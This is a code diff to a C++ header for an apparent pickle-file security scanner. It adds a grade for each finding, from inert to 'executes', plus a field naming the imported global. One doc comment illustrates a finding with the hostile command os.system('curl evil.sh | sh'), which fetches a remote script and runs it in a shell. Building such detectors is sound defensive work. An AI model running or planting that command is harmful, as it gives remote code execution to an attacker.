@@ -20,13 +20,24 @@ enum class Verdict {
 /// Returns "tensors-only", "has-code" or "unreadable".
 std::string_view name(Verdict verdict) noexcept;
 
+/// How bad a finding is.
+enum class Grade {
+  inert,     ///< a known class that only stores data
+  unknown,   ///< a class or function that depickle does not know
+  executes,  ///< runs commands or code, or changes or reads something outside the object
+};
+/// Returns "inert", "unknown" or "executes".
+std::string_view name(Grade grade) noexcept;
+
 /// An action of the unpickler other than building tensors and plain containers.
 struct Finding {
   std::string record;     ///< "archive/data.pkl"; empty if the file itself is the pickle
   uint64_t offset_bytes;  ///< of the opcode, from the start of the record
+  std::string global;     ///< "os.system"; empty if no global is called or imported
   std::string what;       ///< `os.system("curl evil.sh | sh")`
   std::string effect;     ///< "runs a command"
   uint64_t count;         ///< how often the same action is done
+  Grade grade;
 };
 
 /// A global that a pickle imports.
@@ -41,7 +52,7 @@ struct NamedGlobal {
 
 struct Scan {
   Verdict verdict = Verdict::unreadable;
-  std::vector<Finding> findings;     ///< at most 1000
+  std::vector<Finding> findings;     ///< at most 1000 of each grade
   std::vector<NamedGlobal> globals;  ///< at most 10,000
   uint64_t pickles = 0;              ///< pickles that were audited
   uint64_t audited_bytes = 0;        ///< sum of their sizes; bytes that were audited twice count twice
